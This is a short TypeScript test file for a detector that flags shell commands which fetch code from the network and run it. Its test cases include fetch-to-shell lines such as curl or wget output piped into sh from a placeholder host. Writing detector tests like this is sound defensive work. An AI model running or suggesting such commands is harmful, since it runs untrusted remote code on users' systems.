import assert from 'node:assert/strict';
import { test } from 'node:test';
import { findFetchToShell } from './fetch-to-shell.ts';

const rows: readonly [name: string, text: string, hosts: (string | undefined)[]][] = [
  ['piped into a shell', 'curl -fsSL http://a.invalid/x | sh', ['a.invalid']],
  ['in a substitution', 'sh -c "$(wget -qO- http://a.invalid/x)"', ['a.invalid']],
  ['saved, then run', 'wget -O /tmp/f http://a.invalid/x; sh /tmp/f', ['a.invalid']],
  ['only downloaded', 'curl -O http://a.invalid/x.tar.gz', []],
  ['only printed', 'echo "run: curl http://a.invalid/x | sh"', []],
  ['a well-known installer', 'curl https://sh.rustup.rs | sh', ['sh.rustup.rs']],
  [
    'a stranger behind a well-known installer',
    'curl https://sh.rustup.rs http://a.invalid/x | sh',
    ['a.invalid'],
  ],
];

for (const [name, text, hosts] of rows) {
  test(`fetch to shell: ${name}`, () => {
    assert.deepEqual(
      [...findFetchToShell(text)].map(({ from }) => from?.host),
      hosts,
    );
  });
}
